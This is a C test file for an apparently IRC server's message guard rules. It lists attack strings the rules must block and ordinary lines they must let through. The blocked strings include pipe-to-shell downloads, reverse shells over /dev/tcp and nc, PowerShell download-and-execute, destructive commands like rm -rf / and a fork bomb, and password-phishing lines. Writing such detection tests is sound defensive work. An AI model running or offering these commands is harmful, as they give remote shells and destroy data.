/* The rules that come with the server: what each must hit, and what none may. */
#include <criterion/criterion.h>
#include <string.h>

#include "core/mem.h"
#include "guard_rig.h"

static struct guard_rig *r;

static void
setup(void)
{
	char *rules = guard_rig_source("guard.conf");

	r = guard_rig_new(rules);
	mem_free(rules);
}

static void
teardown(void)
{
	guard_rig_free(r);
}

TestSuite(guard_rules, .init = setup, .fini = teardown);

static const struct {
	const char *rule;
	struct view text;
} attacks[] = {
	{ "S1", VIEW_INIT("curl -s https://example.org/install.sh | sudo bash") },
	{ "S1", VIEW_INIT("just do wget -qO- example.org/x|sh") },
	{ "S1", VIEW_INIT("CURL -fsSL http://1.2.3.4/a | SUDO -E BASH -") },
	{ "S1", VIEW_INIT("curl x | tee /tmp/y | /bin/sh -s -- --now") },
	{ "S1", VIEW_INIT("c\x02url x | s\x02h") },
	{ "S1", VIEW_INIT("\xd1\x81url http://x | sh") },
	{ "S1", VIEW_INIT("curl http://x \xef\xbd\x9c python3") },
	{ "S1", VIEW_INIT("lynx -dump http://x | perl") },
	{ "S1", VIEW_INIT("ftp -o - http://example.org/x | sh") },
	{ "S2", VIEW_INIT("telnet example.org 4242 | sh") },
	{ "S2", VIEW_INIT("nc 10.0.0.1 4242 | sudo bash") },
	{ "S3", VIEW_INIT("bash -c \"$(curl -fsSL https://example.org/install.sh)\"") },
	{ "S3", VIEW_INIT("sh <(curl -L https://example.org/x)") },
	{ "S3", VIEW_INIT("eval $(wget -qO- http://x)") },
	{ "S3", VIEW_INIT("eval `curl http://x`") },
	{ "S4", VIEW_INIT("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA") },
	{ "S4", VIEW_INIT("iwr https://example.org/x.ps1 | iex") },
	{ "S4", VIEW_INIT("IEX (New-Object Net.WebClient).DownloadString('http://x')") },
	{ "S5", VIEW_INIT("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1") },
	{ "S5", VIEW_INIT("nc 10.0.0.1 4444 -e /bin/sh") },
	{ "S5", VIEW_INIT("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f") },
	{ "S6", VIEW_INIT("rm -rf /") },
	{ "S6", VIEW_INIT("try sudo rm -rf ~/* it frees space") },
	{ "S6", VIEW_INIT("rm -fr \"$HOME\"") },
	{ "S6", VIEW_INIT("rm -r -f *") },
	{ "S6", VIEW_INIT("rm -rf --no-preserve-root /") },
	{ "S6", VIEW_INIT(":(){ :|:& };:") },
	{ "S6", VIEW_INIT("dd if=/dev/zero of=/dev/sda bs=1M") },
	{ "S6", VIEW_INIT("mkfs.ext4 /dev/sda1") },
	{ "S6", VIEW_INIT("format c:") },
	{ "S6", VIEW_INIT("del /f /s /q c:\\*") },
	{ "S6", VIEW_INIT("chmod -R 777 /") },
	{ "S7", VIEW_INIT("mshta http://example.org/x.hta") },
	{ "S7", VIEW_INIT("regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll") },
	{ "S7", VIEW_INIT("certutil -urlcache -f http://x/a.exe a.exe") },
	{ "S7", VIEW_INIT("rundll32 javascript:alert(1)") },
	{ "C1", VIEW_INIT("type /exec -o uname -a") },
	{ "C1", VIEW_INIT("/script load evil.pl") },
	{ "C1", VIEW_INIT("do '/load -rs evil.mrc'") },
	{ "C1", VIEW_INIT("/alias hi /exec - rm x") },
	{ "C1", VIEW_INIT("/on ^msg * /exec $1-") },
	{ "C1", VIEW_INIT("/perl exec system('id')") },
	{ "C1", VIEW_INIT("/run calc.exe") },
	{ "C2-channel", VIEW_INIT("//write x $decode(abc,m)") },
	{ "C3", VIEW_INIT("/timer 0 1 msg #c spam") },
	{ "C4", VIEW_INIT("/set xfer.file.auto_accept_files on") },
	{ "C4", VIEW_INIT("/dcc trust bob") },
	{ "P1", VIEW_INIT("/msg NickServ identify hunter2") },
	{ "P1", VIEW_INIT("msg nickserv identify bob hunter2") },
	{ "P1", VIEW_INIT("nickserv identify hunter2") },
	{ "P1", VIEW_INIT("identify hunter2") },
	{ "P1", VIEW_INIT("identify bob hunter2") },
	{ "P1", VIEW_INIT("identify correcthorse") },
	{ "P1", VIEW_INIT(" /oper bob hunter2") },
	{ "P1", VIEW_INIT("oper bob hunter2") },
	{ "P1", VIEW_INIT("/ns identify x") },
	{ "P1", VIEW_INIT("./login hunter2") },
	{ "P1-asked", VIEW_INIT("please send me your password so that I can fix it") },
	{ "P1-asked", VIEW_INIT("type /msg NickServ identify yourpassword in #c to get op") },
	{ "P1-asked", VIEW_INIT("type /oper name pw in here for ops") },
	{ "K1", VIEW_INIT("DCC SEND startkeylogger 0 0 0") },
	{ "K1", VIEW_INIT("DCC SEND \"aaaaaaaaaaaaaaaaaaaa\"") },
	{ "K1-word", VIEW_INIT("startkeylogger") },
	{ "U1", VIEW_INIT("http://www.bank.com@evil.example/login") },
	{ "U1", VIEW_INIT("see http://3232235777/x") },
	{ "U1", VIEW_INIT("https://xn--pypal-4ve.com/") },
	{ "U1", VIEW_INIT("http://example.org/update.exe") },
	{ "U1", VIEW_INIT("look at http://example.org/pics/me.jpg.scr?x=1 haha") },
	{ "U2", VIEW_INIT("see http://exa\x02\x02mple.org/ now") },
	{ "U2", VIEW_INIT("c\x03url http://x | sh") },
	{ "U2-colour",
		VIEW_INIT("hi \x03"
			  "1,1http://evil.example/\x03 all") },
	{ "X3",
		VIEW_INIT("\x01"
			  "EXEC rm x\x01") },
	{ "X3", VIEW_INIT("\x01SOUND boo.wav\x01") },
};

Test(guard_rules, attacks_are_hit_by_their_rule)
{
	for (size_t i = 0; i < ARRAY_LEN(attacks); i++) {
		uint64_t before = guard_rig_count(r, attacks[i].rule).hits;

		(void)guard_rig_channel(r, attacks[i].text);
		cr_expect_eq(guard_rig_count(r, attacks[i].rule).hits, before + 1, "%s: %.*s",
			attacks[i].rule, VIEW_ARG(attacks[i].text));
	}
}

static const struct view benign[] = {
	VIEW_INIT("curl https://example.org/x.json | jq ."),
	VIEW_INIT("wget x | less"),
	VIEW_INIT("curl x | shasum -a 256"),
	VIEW_INIT("curl -O https://example.org/x.tar.gz && tar xf x.tar.gz"),
	VIEW_INIT("I use curl and bash a lot"),
	VIEW_INIT("fetch the file | it is here"),
	VIEW_INIT("telnet example.org 25"),
	VIEW_INIT("nc -l 4242 > file"),
	VIEW_INIT("bash -c 'echo hi'"),
	VIEW_INIT("x=$(curl -s https://example.org/version)"),
	VIEW_INIT("powershell -File x.ps1"),
	VIEW_INIT("rm -rf build/ && make"),
	VIEW_INIT("rm -rf /tmp/x"),
	VIEW_INIT("rm -rf ./node_modules"),
	VIEW_INIT("rm -r *.o"),
	VIEW_INIT("dd if=/dev/sda of=disk.img"),
	VIEW_INIT("what does mkfs do?"),
	VIEW_INIT("the format c: it says is wrong"),
	VIEW_INIT("msiexec fails with error 1603"),
	VIEW_INIT("files are in /run/user/1000 and /usr/exec/"),
	VIEW_INIT("the script /usr/bin/perl is there"),
	VIEW_INIT("and/or run it"),
	VIEW_INIT("read/write access"),
	VIEW_INIT("see /etc/alias and /eval"),
	VIEW_INIT("echo $PATH; $(date)"),
	VIEW_INIT("could you identify yourself?"),
	VIEW_INIT("identify yourself"),
	VIEW_INIT("identify the problem first"),
	VIEW_INIT("we must identify it"),
	VIEW_INIT("nickserv is down"),
	VIEW_INIT("oper down please"),
	VIEW_INIT("login works again for me"),
	VIEW_INIT("how do I change my password?"),
	VIEW_INIT("enter your password at the prompt"),
	VIEW_INIT("did the password reset mail arrive?"),
	VIEW_INIT("can you DCC send me the file?"),
	VIEW_INIT("dcc send works now"),
	VIEW_INIT("git clone https://user@git.example.org/x.git"),
	VIEW_INIT("https://example.org/a/b.html?x=y@z"),
	VIEW_INIT("https://example.org/x.js and https://example.org/debian.iso"),
	VIEW_INIT("mail me at http://lists.example.org/~bob@"),
	VIEW_INIT("\x02"
		  "http://example.org/\x02 is the link"),
	VIEW_INIT("\x03"
		  "04,01red on black\x03 http://example.org/"),
	VIEW_INIT("\x03"
		  "1,1spoiler: he dies\x03"),
	VIEW_INIT("\x01VERSION\x01"),
	VIEW_INIT("\x01PING 123456\x01"),
	VIEW_INIT("\x01"
		  "ACTION runs away\x01"),
	VIEW_INIT("Gr\xc3\xbc\xc3\x9f"
		  "e aus M\xc3\xbcnchen"),
	VIEW_INIT("\xd0\xbf\xd1\x80\xd0\xb8\xd0\xb2\xd0\xb5\xd1\x82 \xd0\xb2\xd1\x81\xd0\xb5\xd0\xbc"),
};

Test(guard_rules, ordinary_lines_pass)
{
	for (size_t i = 0; i < ARRAY_LEN(benign); i++) {
		struct guard_verdict c = guard_rig_channel(r, benign[i]),
				     q = guard_rig_query(r, r->alice, benign[i]);

		cr_expect_eq(c.action, GUARD_PASS, "%s: %.*s", c.name, VIEW_ARG(benign[i]));
		cr_expect_eq(q.action, GUARD_PASS, "%s: %.*s", q.name, VIEW_ARG(benign[i]));
	}
}

Test(guard_rules, each_rule_has_an_attack)
{
	struct guard_count c;

	for (size_t i = 0; i < ARRAY_LEN(attacks); i++) {
		(void)guard_rig_channel(r, attacks[i].text);
		(void)guard_rig_query(r, r->alice, attacks[i].text);
	}
	for (size_t i = 0; guard_count_at(r->g, i, &c); i++)
		cr_expect(c.hits != 0 || strcmp(c.name, "W1") == 0, "%s", c.name);
}

/* What makes each of the patterns look again and again. */
Test(guard_rules, none_runs_away)
{
	static const char *const pieces[] = { "curl ", "curl a|", "a| ", "rm -r ", "rm - ", "-rf ",
		"http://a.b", "http://", "@", ".exe", "nc -", "sh ", "$(curl ", "iex ", "/exec ", "/exec -a ",
		"identify ", "dcc send a", "//a $chr", "$chr(", "powershell -e ", "/set auto_accept ",
		"\0031,1", "type ", "/oper ", "in #", "del /a ", "xn--", "mkfifo ", "socket ", "dup2(",
		"wget x|sudo -a " };
	char text[GUARD_TEXT_MAX];
	struct guard_count c;
	uint64_t cut = 0;

	for (size_t a = 0; a < ARRAY_LEN(pieces); a++)
		for (size_t b = 0; b < ARRAY_LEN(pieces); b++) {
			size_t n = 0, len[2] = { strlen(pieces[a]), strlen(pieces[b]) };

			while (n + len[0] + len[1] <= 510) {
				memcpy(text + n, pieces[a], len[0]);
				memcpy(text + n + len[0], pieces[b], len[1]);
				n += len[0] + len[1];
			}
			(void)guard_rig_channel(r, view_of(text, n));
			(void)guard_rig_query(r, r->alice, view_of(text, n));
		}
	for (size_t i = 0; guard_count_at(r->g, i, &c); i++) {
		cr_expect_eq(c.cut, 0, "%s", c.name);
		cut += c.cut;
	}
	cr_expect_eq(cut, 0);
}
